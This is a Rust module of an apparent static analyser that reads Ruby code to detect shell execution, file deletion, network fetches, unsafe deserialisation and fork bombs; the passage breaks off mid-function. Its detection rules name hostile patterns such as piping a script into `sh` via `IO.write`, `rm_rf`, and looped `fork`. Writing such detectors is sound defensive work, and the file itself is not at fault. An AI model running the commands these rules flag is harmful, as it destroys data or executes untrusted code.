//! Ruby: the calls that run commands (backticks, `%x`, `system`/`exec`/`spawn`, `IO.popen`,
//! `Open3`, `open("|cmd")`), delete, read, write, move, fetch or run code, with the constant
//! values of their arguments (literals with escapes and `#{}` of constants, heredocs, `+`,
//! `%`, `*`, `join`/`reverse`/`chr`/`pack('c*')`/`sub`/`tr`, `File.join`/`expand_path`,
//! `Dir.home`, `ENV['HOME']`, `Pathname`), names bound once, and calls by a constant name
//! (`send(:system)`, `method(:system).call`, `Object.const_get('Kernel')`, `alias`).

use std::collections::HashMap;

use tree_sitter::{Node, Tree};

use super::Effect;
use super::scope::{Cx, Names, Slot, Val, join};
use super::tree::{MAX_NESTING, Source};

/// What an expression is, as far as the reader follows it.
#[derive(Debug, Clone)]
enum Obj {
    Val(Val),
    /// A module or class, by its full name (`FileUtils`, `Net::HTTP`).
    Const(String),
    /// An array of values.
    List(Vec<Val>),
    /// A method object (`method(:system)`), by the qualified name it calls.
    Method(String),
    /// A `Pathname` of this value.
    Path(Val),
    /// A `URI` of this value.
    Uri(Val),
    /// A socket address (`Addrinfo.tcp`), as `tcp://host:port`.
    Addr(Val),
    /// What a network request returned: what it reads was downloaded.
    Response,
}

impl Obj {
    fn val(self) -> Val {
        match self {
            Obj::Val(v) | Obj::Path(v) | Obj::Uri(v) => v,
            Obj::Response => Val::Fetched,
            _ => Val::Unknown,
        }
    }
}

/// Kernel's private methods: `send` reaches them on any receiver.
const KERNEL: &str = "system exec spawn ` open eval fork syscall load require require_relative \
    autoload format sprintf instance_eval binding";

/// Methods that change their receiver in place: a name they are called on is not known.
const MUTATORS: &str = "<< concat prepend insert replace clear push append unshift pop shift []= \
    setbyte force_encoding delete delete_at delete_if keep_if fill store update";

/// Core classes whose methods the reader folds: reopening one makes folding unsound.
const CORE: &str = "String Array Integer Symbol Kernel Object BasicObject Comparable Enumerable File \
    FileUtils Dir IO Pathname ENV URI Base64";

/// Whether `name` is one of the space-separated `list`.
fn listed(list: &str, name: &str) -> bool {
    list.split(' ').any(|n| n == name)
}

/// Reads a Ruby program.
pub(super) fn read(cx: &mut Cx, tree: &Tree, src: &Source<'_>) {
    cx.allow(src.text.len());
    let root = tree.root_node();
    let mut rb = Rb {
        cx,
        src,
        names: Names::default(),
        aliases: HashMap::new(),
        heredocs: HashMap::new(),
        pending: (Vec::new(), Vec::new()),
        mutated: Vec::new(),
        same: Vec::new(),
        evals: Vec::new(),
        values: HashMap::new(),
        untrusted: false,
        patched: false,
        env_written: false,
        loops: 0,
        always_loops: false,
        nest: 0,
    };
    rb.bind_all(root, 0);
    rb.settle();
    rb.walk(root, 0);
}

struct Rb<'a, 'c, 't> {
    cx: &'c mut Cx,
    src: &'a Source<'a>,
    names: Names<'t>,
    /// `alias new old`, `alias_method :new, :old`: new name to old.
    aliases: HashMap<String, String>,
    /// Heredoc bodies by the start of the `<<~EOS` that stands for them.
    heredocs: HashMap<usize, Node<'t>>,
    /// Heredoc beginnings and bodies in the order of the code, paired after the pre-pass.
    pending: (Vec<Node<'t>>, Vec<Node<'t>>),
    /// Names a method changes in place (`s << 'x'`, `s.gsub!`).
    mutated: Vec<String>,
    /// Names bound to another name (`b = a`): the same object, changed together.
    same: Vec<(String, String)>,
    /// The code `eval` runs: assigning in it makes no name known.
    evals: Vec<Node<'t>>,
    values: HashMap<&'a str, Obj>,
    /// A value was changed in place through something other than a name bound once, or the
    /// code rebinds names at run time (`eval`, `local_variable_set`): no name's value is known.
    untrusted: bool,
    /// The code reopens a core class or defines methods at run time: no method is folded.
    patched: bool,
    /// The code changes `ENV`: `HOME` is not known.
    env_written: bool,
    loops: usize,
    /// `retry` or `redo` can repeat any part of the code.
    always_loops: bool,
    /// Evaluations under way.
    nest: usize,
}

impl<'a, 'c, 't> Rb<'a, 'c, 't> {
    fn text(&self, node: Node<'_>) -> &'a str {
        self.src.of(node)
    }

    fn line(&self, node: Node<'_>) -> usize {
        self.src.line(node)
    }

    /// Gathers the names the code binds (see [`Names`]) and what makes them unknown.
    fn bind_all(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING || !self.cx.step(self.line(node)) {
            return;
        }
        let field = |f| node.child_by_field_name(f);
        match node.kind() {
            "assignment" => match (field("left"), field("right")) {
                (Some(l), Some(r)) => self.bind_assignment(l, r),
                (l, _) => self.forget_in(l),
            },
            "operator_assignment" => {
                self.forget_in(field("left"));
            }
            "method_parameters"
            | "lambda_parameters"
            | "block_parameters"
            | "parameters"
            | "exception_variable"
            | "destructured_parameter" => self.forget_in(Some(node)),
            "for" => self.forget_in(field("pattern")),
            "test_pattern" | "match_pattern" | "in_clause" => self.forget_in(field("pattern")),
            "binary" => {
                let op = field("operator").map(|o| self.text(o));
                match (op, field("left")) {
                    (Some("<<"), Some(l)) => self.changed(l),
                    // `/(?<name>..)/ =~ s` binds `name`.
                    (Some("=~"), Some(l)) if l.kind() == "regex" => {
                        for part in self.text(l).split("(?<").skip(1) {
                            let name = part.split('>').next().unwrap_or_default();
                            self.names.forget(name);
                        }
                    }
                    _ => {}
                }
            }
            "call" => self.bind_call(node),
            "alias" => {
                if let (Some(new), Some(old)) = (field("name"), field("alias")) {
                    let (new, old) = (self.text(new), self.text(old));
                    self.aliases.insert(
                        new.trim_start_matches(':').into(),
                        old.trim_start_matches(':').into(),
                    );
                }
            }
            "undef" => self.patched = true,
            "class" | "module" | "singleton_class" | "singleton_method" => {
                let name = field("name").or(field("value")).or(field("object"));
                let name = name
                    .map(|n| self.text(n).trim_start_matches("::"))
                    .unwrap_or("");
                if listed(CORE, name) || (name == "self" && node.kind() == "singleton_class") {
                    self.patched = true;
                }
            }
            "retry" | "redo" => self.always_loops = true,
            "heredoc_beginning" => self.pending.0.push(node),
            "heredoc_body" => self.pending.1.push(node),
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.bind_all(child, depth + 1);
        }
    }

    fn bind_assignment(&mut self, left: Node<'t>, right: Node<'t>) {
        // `a = b = value`: the inner assignment is bound when the pre-pass reaches it.
        let mut value = right;
        while value.kind() == "assignment" {
            match value.child_by_field_name("right") {
                Some(r) => value = r,
                None => break,
            }
        }
        match left.kind() {
            "identifier" | "constant" | "instance_variable" | "global_variable"
            | "class_variable" => {
                let name = self.text(left);
                self.names.bind(name, Slot::Expr(value));
                if let Some(other) = self.root_name(value) {
                    self.same.push((name.to_owned(), other));
                }
            }
            "left_assignment_list" if value.kind() == "right_assignment_list" => {
                let mut c = left.walk();
                let names: Vec<Node<'t>> = left.named_children(&mut c).collect();
                let mut c = value.walk();
                let values: Vec<Node<'t>> = value.named_children(&mut c).collect();
                let plain = |n: &Node<'_>| n.kind() == "identifier";
                if names.len() == values.len() && names.iter().all(plain) {
                    for (n, v) in names.into_iter().zip(values) {
                        self.names.bind(self.text(n), Slot::Expr(v));
                    }
                } else {
                    self.forget_in(Some(left));
                }
            }
            "element_reference" | "call" => self.set_in(left),
            _ => self.forget_in(Some(left)),
        }
    }

    fn bind_call(&mut self, node: Node<'t>) {
        let mut name = node
            .child_by_field_name("method")
            .map_or("", |m| self.text(m));
        let receiver = node.child_by_field_name("receiver");
        let mut args = Args::of(node);
        // `send(:alias_method, ...)` is `alias_method(...)`.
        if matches!(name, "send" | "__send__" | "public_send")
            && let Some(first) = args.pos.first()
        {
            name = self
                .text(*first)
                .trim_start_matches(':')
                .trim_matches(['"', '\'']);
            args = args.skip(1);
        }
        if let Some(r) = receiver
            && (listed(MUTATORS, name) || name.ends_with('!'))
        {
            self.changed(r);
        }
        match name {
            "eval" | "instance_eval" | "class_eval" | "module_eval" => {
                // Code run by `eval` can assign the names of the code that runs it.
                match args.pos.first() {
                    Some(code) => self.evals.push(*code),
                    None => self.patched |= name != "instance_eval",
                }
            }
            "local_variable_set" | "instance_variable_set" | "class_variable_set" | "const_set" => {
                self.untrusted = true
            }
            "define_method"
            | "define_singleton_method"
            | "refine"
            | "prepend"
            | "class_exec"
            | "module_exec"
            | "remove_method"
            | "undef_method"
            | "alias_method" => {
                self.patched = true;
            }
            "include" | "extend" => {
                for a in &args.pos {
                    let module = self.text(*a).trim_start_matches("::").to_owned();
                    self.names.star.push(module);
                }
            }
            _ => {}
        }
        if name == "alias_method"
            && let [new, old] = args.pos.as_slice()
        {
            let bare = |s: &str| {
                s.trim_start_matches(':')
                    .trim_matches(['"', '\''])
                    .to_owned()
            };
            let (new, old) = (bare(self.text(*new)), bare(self.text(*old)));
            self.aliases.insert(new, old);
        }
    }

    /// `node` is changed in place: the name it is is not known; when it is not a name, it
    /// may be any value (`list.first << 'x'`), so no name is known.
    fn changed(&mut self, node: Node<'_>) {
        match node.kind() {
            "identifier" | "constant" | "instance_variable" | "global_variable"
            | "class_variable" => self.mutated.push(self.text(node).to_owned()),
            _ => self.untrusted = true,
        }
    }

    /// `x[i] = ...` and `x.attr = ...` change `x`.
    fn set_in(&mut self, target: Node<'_>) {
        match target
            .child_by_field_name("object")
            .or(target.child_by_field_name("receiver"))
        {
            Some(object) => self.changed(object),
            None => self.untrusted = true,
        }
    }

    /// The name an expression is the very object of (`a`, `a.to_s`, `(a)`).
    fn root_name(&self, node: Node<'_>) -> Option<String> {
        match node.kind() {
            "identifier" | "constant" | "instance_variable" | "global_variable" => {
                Some(self.text(node).to_owned())
            }
            "parenthesized_statements" => node.named_child(0).and_then(|n| self.root_name(n)),
            "call" => {
                let m = node.child_by_field_name("method").map(|m| self.text(m));
                match m {
                    Some("to_s" | "to_str" | "itself" | "freeze" | "tap" | "to_a" | "to_path") => {
                        node.child_by_field_name("receiver")
                            .and_then(|r| self.root_name(r))
                    }
                    _ => None,
                }
            }
            _ => None,
        }
    }

    /// Every name under `node` becomes not known.
    fn forget_in(&mut self, node: Option<Node<'_>>) {
        let Some(node) = node else { return };
        match node.kind() {
            "identifier" | "constant" | "instance_variable" | "global_variable"
            | "class_variable" => self.names.forget(self.text(node)),
            "element_reference" | "call" => self.set_in(node),
            _ => {
                let mut c = node.walk();
                for child in node.named_children(&mut c) {
                    self.forget_in(Some(child));
                }
            }
        }
    }

    /// After the pre-pass: pairs heredocs, and forgets the names changed in place.
    fn settle(&mut self) {
        let (begins, bodies) = std::mem::take(&mut self.pending);
        for (b, body) in begins.into_iter().zip(bodies) {
            self.heredocs.insert(b.start_byte(), body);
        }
        let mut work = std::mem::take(&mut self.mutated);
        let mut done: Vec<String> = Vec::new();
        while let Some(name) = work.pop() {
            if done.contains(&name) {
                continue;
            }
            match self.names.get(&name) {
                Some(Slot::Expr(_)) => self.names.forget(&name),
                Some(_) => self.untrusted = true,
                None if name == "ENV" => self.env_written = true,
                None => {}
            }
            for (a, b) in &self.same {
                if *a == name {
                    work.push(b.clone());
                } else if *b == name {
                    work.push(a.clone());
                }
            }
            done.push(name);
        }
        for code in std::mem::take(&mut self.evals) {
            let code = self.eval(code, 0).val();
            self.untrusted |= code.text().is_none_or(|t| t.contains('='));
        }
    }

    /// Visits every node, reading the calls' effects.
    fn walk(&mut self, node: Node<'t>, depth: usize) {
        if depth > 2 * MAX_NESTING {
            self.cx
                .opaque("the code nests too deeply to read", self.line(node));
            return;
        }
        if !self.cx.step(self.line(node)) {
            return;
        }
        let is_loop = matches!(
            node.kind(),
            "while"
                | "until"
                | "for"
                | "while_modifier"
                | "until_modifier"
                | "block"
                | "do_block"
                | "method"
                | "singleton_method"
                | "lambda"
        );
        self.loops += usize::from(is_loop);
        let line = self.line(node);
        match node.kind() {
            "call" => self.call(node),
            "subshell" => {
                let cmd = self.string(node, 0);
                self.cx.found(Effect::Shell(cmd), line);
            }
            // `` <<~`CMD` `` runs its body.
            "heredoc_beginning" if self.text(node).contains('`') => {
                let cmd = self.string(node, 0);
                self.cx.found(Effect::Shell(cmd), line);
            }
            // A bare `fork` is a call without arguments.
            "identifier" if self.text(node) == "fork" && self.names.get("fork").is_none() => {
                let parent = node.parent();
                let named = parent.is_some_and(|p| {
                    p.child_by_field_name("method") == Some(node)
                        || p.child_by_field_name("name") == Some(node)
                        || p.kind().contains("parameter")
                });
                if !named {
                    self.sink("Kernel.fork", &Args::default(), line);
                }
            }
            "element_reference" => {
                if let Some(object) = node.child_by_field_name("object")
                    && let Obj::Method(q) = self.eval(object, 0)
                {
                    let args = Args::of(node);
                    self.sink(&q, &args, line);
                }
            }
            _ => {}
        }
        let mut c = node.walk();
        for child in node.named_children(&mut c) {
            self.walk(child, depth + 1);
        }
        self.loops -= usize::from(is_loop);
    }

    /// The effect of one call.
    fn call(&mut self, node: Node<'t>) {
        let line = self.line(node);
        // `m.()` calls `m`.
        let name = node
            .child_by_field_name("method")
            .map_or("call", |m| self.text(m));
        let receiver = node
            .child_by_field_name("receiver")
            .map(|r| self.eval(r, 0));
        let args = Args::of(node);
        self.invoke(receiver, name, &args, line, false, 0);
        // `list.each(&method(:system))` calls the method with each item.
        if let Some(b) = args.block
            && let Some(inner) = b.named_child(0)
            && let Obj::Method(q) = self.eval(inner, 0)
        {
            self.sink(&q, &Args::unknown(), line);
        }
    }

    /// Calls method `name` of `receiver` (`None`: of `self`) with `args`; `sent` when called
    /// through `send`, which reaches private methods.
    fn invoke(
        &mut self,
        receiver: Option<Obj>,
        name: &str,
        args: &Args<'t>,
        line: usize,
        sent: bool,
        depth: usize,
    ) {
        const COMPUTED: &str = "the code calls a method whose name is computed at run time";
        if depth > MAX_NESTING {
            self.cx.opaque("the code nests too deeply to read", line);
            return;
        }
        match name {
            "send" | "__send__" | "public_send" => {
                match self.arg(args, 0).val() {
                    Val::Known(m) => {
                        self.invoke(receiver, &m, &args.skip(1), line, true, depth + 1)
                    }
                    _ => self.cx.opaque(COMPUTED, line),
                }
                return;
            }
            "method" | "public_method" | "instance_method" | "alias_method" | "const_get"
            | "define_method" | "singleton_method" => {
                let computed =
                    (0..args.pos.len().min(2)).any(|n| self.arg(args, n).val().text().is_none());
                let from_method =
                    name == "define_method" && matches!(self.arg(args, 1), Obj::Method(_));
                if computed && name != "define_method" || from_method {
                    self.cx.opaque(
                        if name == "const_get" {
                            "the code looks up a class or module by a name computed at run time"
                        } else {
                            COMPUTED
                        },
                        line,
                    );
                }
                return;
            }
            _ => {}
        }
        if let Some(Obj::Method(q)) = &receiver
            && matches!(name, "call" | "()" | "[]" | "yield" | "===" | "bind_call")
        {
            let args = if name == "bind_call" {
                args.skip(1)
            } else {
                args.clone()
            };
            self.sink(&q.clone(), &args, line);
            return;
        }
        match receiver {
            Some(Obj::Path(p)) => self.path_method(p, name, args, line),
            Some(Obj::Uri(u)) if matches!(name, "open" | "read") => {
                self.cx.command("curl", vec![u], line)
            }
            Some(Obj::Addr(a)) if name == "connect" => self.cx.command("curl", vec![a], line),
            // `socket.connect(Addrinfo.tcp(host, port))`
            Some(_) if name == "connect" => {
                if let Obj::Addr(a) = self.arg(args, 0) {
                    self.cx.command("curl", vec![a], line)
                }
            }
            receiver => {
                if let Some(q) = self.qualify(receiver.as_ref(), name, sent) {
                    self.sink(&q, args, line);
                }
            }
        }
    }

    /// The qualified name of method `name` of `receiver` (`Kernel.system`, `FileUtils.rm_rf`,
    /// `?.popen` when the receiver is not followed).
    fn qualify(&self, receiver: Option<&Obj>, name: &str, sent: bool) -> Option<String> {
        if sent && listed(KERNEL, name) {
            return Some(format!("Kernel.{name}"));
        }
        match receiver {
            None => {
                let mut name = name;
                for _ in 0..8 {
                    match self.aliases.get(name) {
                        Some(old) if old != name => name = old,
                        _ => break,
                    }
                }
                for module in &self.names.star {
                    let q = format!("{}.{name}", canonical(module));
                    if !listed(KERNEL, name) && is_module_call(&q) {
                        return Some(q);
                    }
                }
                Some(format!("Kernel.{name}"))
            }
            // `Process.spawn` runs as `spawn` does; a constant the reader does not follow
            // (`Object.const_set(:K, Kernel)`) may be `Kernel`.
            Some(Obj::Const(_)) if matches!(name, "system" | "exec" | "spawn" | "`" | "fork") => {
                Some(format!("Kernel.{name}"))
            }
            Some(Obj::Const(c)) => Some(format!("{}.{name}", canonical(c))),
            Some(Obj::Response) => None,
            Some(_) => match name {
                "system"
                | "popen"
                | "popen2"
                | "popen2e"
                | "popen3"
                | "capture2"
                | "capture2e"
                | "capture3"
                | "rm_rf"
                | "rmtree"
                | "remove_entry_secure"
                | "eval"
                | "instance_eval"
                | "class_eval"
                | "module_eval" => Some(format!("?.{name}")),
                _ => None,
            },
        }
    }

    /// The effect of calling `q`.
    fn sink(&mut self, q: &str, args: &Args<'t>, line: usize) {
        let k = |rb: &mut Self, n: usize| rb.arg(args, n).val();
        match q {
            "Kernel.system" | "Kernel.exec" | "Kernel.spawn" | "Process.spawn" | "Process.exec"
            | "PTY.spawn" | "Open3.capture2" | "Open3.capture2e" | "Open3.capture3"
            | "Open3.popen2" | "Open3.popen2e" | "Open3.popen3" | "?.system" | "?.popen2"
            | "?.popen2e" | "?.popen3" | "?.capture2" | "?.capture2e" | "?.capture3" => {
                let items = self.command_items(args);
                self.run(items, line);
            }
            "IO.popen" | "?.popen" => {
                let mut items = self.command_items(args);
                items.0.truncate(1);
                if !matches!(items.0.first(), Some(Obj::Val(Val::Known(s))) if s == "-") {
                    self.run(items, line);
                }
            }
            "Open3.pipeline"
            | "Open3.pipeline_r"
            | "Open3.pipeline_w"
            | "Open3.pipeline_rw"
            | "Open3.pipeline_start" => {
                let (items, exact) = self.command_items(args);
                for item in items {
                    self.run((vec![item], true), line);
                }
                if !exact {
                    self.cx.found(Effect::Shell(Val::Unknown), line);
                }
            }
            "Kernel.`" => {
                let cmd = k(self, 0);
                self.cx.found(Effect::Shell(cmd), line);
            }
            "Kernel.open" | "URI.open" | "IO.read" | "IO.readlines" | "IO.foreach"
            | "IO.binread" | "IO.write" | "IO.binwrite" | "OpenURI.open_uri" => {
                self.open_like(q, args, line)
            }
            "File.read" | "File.readlines" | "File.foreach" | "File.binread" | "File.open"
            | "File.new" | "IO.sysopen" => {
                let path = k(self, 0);
                let mode = match args.pos.get(1) {
                    Some(_) => k(self, 1),
                    None => args.keyword(self, "mode").map_or(Val::known("r"), Obj::val),
                };
                self.open(path, mode, line);
            }
            "File.write" | "File.binwrite" | "FileUtils.touch" => {
                let paths = self.list_arg(args, 0);
                self.each("tee", &[], paths, line)
            }
            "File.delete" | "File.unlink" => {
                let paths = self.paths(args, 0);
                self.each("rm", &[], paths, line)
            }
            "FileUtils.rm" | "FileUtils.remove" | "FileUtils.remove_file" => {
                let paths = self.list_arg(args, 0);
                self.each("rm", &[], paths, line)
            }
            "FileUtils.rm_f" | "FileUtils.safe_unlink" => {
                let paths = self.list_arg(args, 0);
                self.each("rm", &["-f"], paths, line)
            }
            "FileUtils.rm_r" => {
                let force = args.keyword(self, "force").map(Obj::val);
                let flags: &[&str] = if force == Some(Val::known("true")) {
                    &["-r", "-f"]
                } else {
                    &["-r"]
                };
                let paths = self.list_arg(args, 0);
                self.each("rm", flags, paths, line)
            }
            "FileUtils.rm_rf" | "FileUtils.rmtree" | "?.rm_rf" | "?.rmtree" => {
                let paths = self.list_arg(args, 0);
                self.each("rm", &["-r", "-f"], paths, line)
            }
            "FileUtils.remove_entry"
            | "FileUtils.remove_entry_secure"
            | "FileUtils.remove_dir"
            | "?.remove_entry_secure" => {
                let force = k(self, 1) == Val::known("true");
                let flags: &[&str] = if force { &["-r", "-f"] } else { &["-r"] };
                let paths = self.list_arg(args, 0);
                self.each("rm", flags, paths, line)
            }
            "Dir.rmdir" | "Dir.delete" | "Dir.unlink" | "FileUtils.rmdir" => {
                let paths = self.list_arg(args, 0);
                self.each("rmdir", &[], paths, line)
            }
            "File.rename" | "FileUtils.mv" | "FileUtils.move" => self.two("mv", &[], args, line),
            "FileUtils.cp"
            | "FileUtils.copy"
            | "FileUtils.copy_file"
            | "FileUtils.install"
            | "IO.copy_stream" => self.two("cp", &[], args, line),
            "FileUtils.cp_r" | "FileUtils.copy_entry" | "FileUtils.cp_lr" => {
                self.two("cp", &["-r"], args, line)
            }
            "File.symlink" | "FileUtils.ln_s" | "FileUtils.symlink" | "FileUtils.ln_sr" => {
                self.two("ln", &["-s"], args, line)
            }
            "FileUtils.ln_sf" => self.two("ln", &["-s", "-f"], args, line),
            "File.link" | "FileUtils.ln" | "FileUtils.link" => self.two("ln", &[], args, line),
            "File.chmod" | "File.lchmod" | "FileUtils.chmod" | "FileUtils.chmod_R" => {
                let mode = octal(k(self, 0));
                let mut flags = vec![mode];
                if q.ends_with("_R") {
                    flags.insert(0, Val::known("-R"));
                }
                for path in self.paths(args, 1) {
                    let mut argv = flags.clone();
                    argv.push(path);
                    self.cx.command("chmod", argv, line);
                }
            }
            "File.chown" | "File.lchown" | "FileUtils.chown" | "FileUtils.chown_R" => {
                for path in self.paths(args, 2) {
                    self.cx.command("chown", vec![Val::Unknown, path], line);
                }
            }
            "File.truncate" => {
                let (path, size) = (k(self, 0), k(self, 1));
                self.cx
                    .command("truncate", vec![Val::known("-s"), size, path], line);
            }
            "Process.kill" => {
                let sig = match k(self, 0) {
                    Val::Known(s) => {
                        let s = s.trim_start_matches('-');
                        Val::Known(format!("-{}", s.strip_prefix("SIG").unwrap_or(s)))
                    }
                    other => other,
                };
                for pid in self.paths(args, 1) {
                    self.cx.command("kill", vec![sig.clone(), pid], line);
                }
            }
            // With a block instead of a string, the block is code the walk reads.
            _ if (matches!(
                q.rsplit_once('.').map_or(q, |(_, m)| m),
                "eval" | "instance_eval" | "class_eval" | "module_eval"
            ) || q.starts_with("RubyVM::InstructionSequence.compile")
                || q == "RubyVM::InstructionSequence.new")
                && (!args.pos.is_empty() || args.splat) =>
            {
                let code = k(self, 0);
                self.cx.eval(code, line);
            }
            "ERB.new" => match k(self, 0) {
                Val::Known(t) if !t.contains("<%") => {}
                Val::Known(t) => self.cx.eval(Val::Known(erb_code(&t)), line),
                other => self.cx.eval(other, line),
            },
            "Kernel.fork" | "Process.fork" if self.loops > 0 || self.always_loops => self
                .cx
                .opaque("the code forks in a loop (a fork bomb)", line),
            "Kernel.require" | "Kernel.require_relative" | "Kernel.load"
                if k(self, 0).text().is_none() =>
            {
                self.cx.opaque(
                    "the code loads a library whose name is computed at run time",
                    line,
                )
            }
            "Marshal.load"
            | "Marshal.restore"
            | "YAML.unsafe_load"
            | "Psych.unsafe_load"
            | "RubyVM::InstructionSequence.load_from_binary" => self.cx.opaque(
                "the code loads serialised objects, which can run any code",
                line,
            ),
            "Kernel.syscall" => self.cx.opaque("the code calls native code directly", line),
            _ if ["Fiddle", "FFI", "DL"]
                .iter()
                .any(|m| q.strip_prefix(m).is_some_and(|r| r.starts_with(['.', ':']))) =>
            {
                self.cx.opaque("the code calls native code directly", line)
            }
            "Kernel.extend" | "Kernel.include" if matches!(self.arg(args, 0), Obj::Const(c) if c.starts_with("FFI")) => {
                self.cx.opaque("the code calls native code directly", line)
            }
            _ if is_network(q) => {
                let url = self.url_of(q, args);
                self.cx.command("curl", vec![url], line);
            }
            _ => {}
        }
    }

    /// The arguments of a command: a leading environment hash and options skipped, `*list`
    /// spread; false when a spread list is not known (so neither is the count).
    fn command_items(&mut self, args: &Args<'t>) -> (Vec<Obj>, bool) {
        let mut items = Vec::new();
        let mut exact = !(args.splat && args.pos.is_empty());
        for node in &args.pos {
            match node.kind() {
                "hash" | "hash_splat_argument" => {}
                "splat_argument" => match node.named_child(0).map(|n| self.eval(n, 0)) {
                    Some(Obj::List(vals)) => items.extend(vals.into_iter().map(Obj::Val)),
                    _ => exact = false,
                },
                // `IO.popen([env, 'ls', '-l', err: :out])`
                "array" => {
                    let mut c = node.walk();
                    let parts: Vec<Node<'t>> = node.named_children(&mut c).collect();
                    let parts = parts
                        .into_iter()
                        .filter(|p| !matches!(p.kind(), "hash" | "pair"));
                    let list = parts.map(|p| self.eval(p, 0).val()).collect();
                    items.push(Obj::List(list));
                }
                _ => items.push(self.eval(*node, 0)),
            }
        }
        (items, exact)
    }

    /// `system`'s rules: one string is a shell line; several arguments (or an array as
    /// `[program, argv0]`) are a program and its arguments.
    fn run(&mut self, (items, exact): (Vec<Obj>, bool), line: usize) {
        let mut argv: Vec<Val> = Vec::new();
        let single = items.len() == 1;
        for (n, item) in items.into_iter().enumerate() {
            match item {
                Obj::List(list) if n == 0 && single => argv.extend(list),
                Obj::List(list) if n == 0 => {
                    argv.push(list.into_iter().next().unwrap_or(Val::Unknown))
                }
                other => argv.push(other.val()),
            }
        }
        match (argv.len(), exact) {
            (0, _) => self.cx.found(Effect::Shell(Val::Unknown), line),
            (1, true) => {
                let cmd = argv.pop().unwrap_or(Val::Unknown);
                self.cx.found(Effect::Shell(cmd), line)
            }
            (1, false) => {
                let first = argv.first().cloned().unwrap_or(Val::Unknown);
                self.cx.found(Effect::Shell(first), line);
                argv.push(Val::Unknown);
                self.cx.found(Effect::Exec(argv), line)
            }
            (_, exact) => {
                if !exact {
                    argv.push(Val::Unknown);
                }
                self.cx.found(Effect::Exec(argv), line)
            }
        }
    }

    /// `open(path)` and the `IO` methods that run `path` as a command when it starts with `|`.
    fn open_like(&mut self, q: &str, args: &Args<'t>, line: usize) {
        let literal = args.pos.first().copied();
        let path = self.arg(args, 0);
        let plain = literal.is_some_and(|n| self.plain_path(n));
        let writes = q.ends_with("write");
        let path = match path {
            Obj::Uri(u) => return self.cx.command("curl", vec![u], line),
            Obj::Path(p) => p,
            other => other.val(),
        };
        match &path {
            Val::Known(p) if p.starts_with("|-") => {}
            Val::Known(p) if p.starts_with('|') => {
                let cmd = p.get(1..).unwrap_or_default().trim();
                // `IO.write('|sh', script)` runs the script.
                if writes
                    && matches!(
                        cmd.split(' ').next(),
                        Some("sh" | "bash" | "zsh" | "dash" | "/bin/sh" | "/bin/bash")
                    )
                {
                    let script = self.arg(args, 1).val();
                    self.cx.found(Effect::Shell(script), line);
                }
                self.cx.found(Effect::Shell(Val::known(cmd)), line)
            }
            Val::Known(p)
                if ["http://", "https://", "ftp://"]
                    .iter()
                    .any(|s| p.starts_with(s)) =>
            {
                self.cx.command("curl", vec![path.clone()], line)
            }
            Val::Known(_) => {}
            _ if !plain => return self.cx.found(Effect::Shell(path), line),
            _ => {}
        }
        if path
            .text()
            .is_some_and(|p| p.starts_with('|') || p.contains("://"))
        {
            return;
        }
        if writes {
            self.cx.command("tee", vec![path], line);
        } else if q == "Kernel.open" || q == "URI.open" {
            let mode = self.arg(args, 1).val();
            let mode = if args.pos.len() < 2 {
                Val::known("r")
            } else {
                mode
            };
            self.open(path, mode, line);
        } else {
            self.cx.command("cat", vec![path], line);
        }
    }

    /// Whether `node` is a string literal that does not start with `|`.
    fn plain_path(&self, node: Node<'_>) -> bool {
        let first = node.named_child(0);
        node.kind() == "string"
            && first.is_some_and(|f| f.kind() == "string_content" && !self.text(f).starts_with('|'))
    }

    /// `File.open(path, mode)`: a read (`cat`), a write (`tee`), or both.
    fn open(&mut self, path: Val, mode: Val, line: usize) {
        let mode = mode.text().map_or("r+".to_owned(), str::to_owned);
        let writes = mode.contains(['w', 'a', '+']);
        if !writes || mode.contains(['r', '+']) {
            self.cx.command("cat", vec![path.clone()], line);
        }
        if writes {
            self.cx.command("tee", vec![path], line);
        }
    }

    /// The paths from argument `from` on (an array's items too).
    fn paths(&mut self, args: &Args<'t>, from: usize) -> Vec<Val> {
        let mut out = Vec::new();
        for n in from..args.pos.len().max(from + 1) {
            out.extend(self.list_arg(args, n));
        }
        out
    }

    /// Argument `n` as a list (`FileUtils.rm_rf(%w[a b])`, `rm_rf('a')`).
    fn list_arg(&mut self, args: &Args<'t>, n: usize) -> Vec<Val> {
        match self.arg(args, n) {
            Obj::List(items) => items,
            other => vec![other.val()],
        }
    }

    /// `program FLAGS PATH` for each path.
    fn each(
        &mut self,
        program: &'static str,
        flags: &[&'static str],
        paths: Vec<Val>,
        line: usize,
    ) {
        for path in paths {
            let mut argv: Vec<Val> = flags.iter().map(|f| Val::known(*f)).collect();
            argv.push(path);
            self.cx.command(program, argv, line);
        }
    }

    /// `program FLAGS FROM TO` for each source.
    fn two(&mut self, program: &'static str, flags: &[&'static str], args: &Args<'t>, line: usize) {
        let to = self.arg(args, 1).val();
        let from = match self.arg(args, 0) {
            Obj::List(items) => items,
            other => vec![other.val()],
        };
        for source in from {
            let mut argv: Vec<Val> = flags.iter().map(|f| Val::known(*f)).collect();
            argv.extend([source, to.clone()]);
            self.cx.command(program, argv, line);
        }
    }

    fn path_method(&mut self, path: Val, method: &str, args: &Args<'t>, line: usize) {
        let to = |rb: &mut Self| rb.arg(args, 0).val();
        match method {
            "rmtree" => self
                .cx
                .command("rm", vec![Val::known("-r"), Val::known("-f"), path], line),
            "unlink" | "delete" => self.cx.command("rm", vec![path], line),
            "rmdir" => self.cx.command("rmdir", vec![path], line),
            "read" | "readlines" | "binread" | "each_line" => {
                self.cx.command("cat", vec![path], line)
            }
            "write" | "binwrite" => self.cx.command("tee", vec![path], line),
            "open" => {
                let mode = if args.pos.is_empty() {
                    Val::known("r")
                } else {
                    to(self)
                };
                self.open(path, mode, line);
            }
            "rename" => {
                let to = to(self);
                self.cx.command("mv", vec![path, to], line)
            }
            "chmod" => {
                let mode = octal(to(self));
                self.cx.command("chmod", vec![mode, path], line)
            }
            "make_symlink" => {
                let target = to(self);
                self.cx
                    .command("ln", vec![Val::known("-s"), target, path], line)
            }
            _ => {}
        }
    }

    /// The URL a network call reaches.
    fn url_of(&mut self, q: &str, args: &Args<'t>) -> Val {
        let target = match args.pos.first() {
            Some(_) => self.arg(args, 0),
            None => args.keyword(self, "url").unwrap_or(Obj::Val(Val::Unknown)),
        };
        let (module, method) = q.rsplit_once('.').unwrap_or(("", q));
        let scheme = match module {
            "TCPSocket" | "Socket" => "tcp://",
            "Net::FTP" => "ftp://",
            "Net::SMTP" => "smtp://",
            "Net::SSH" => "ssh://",
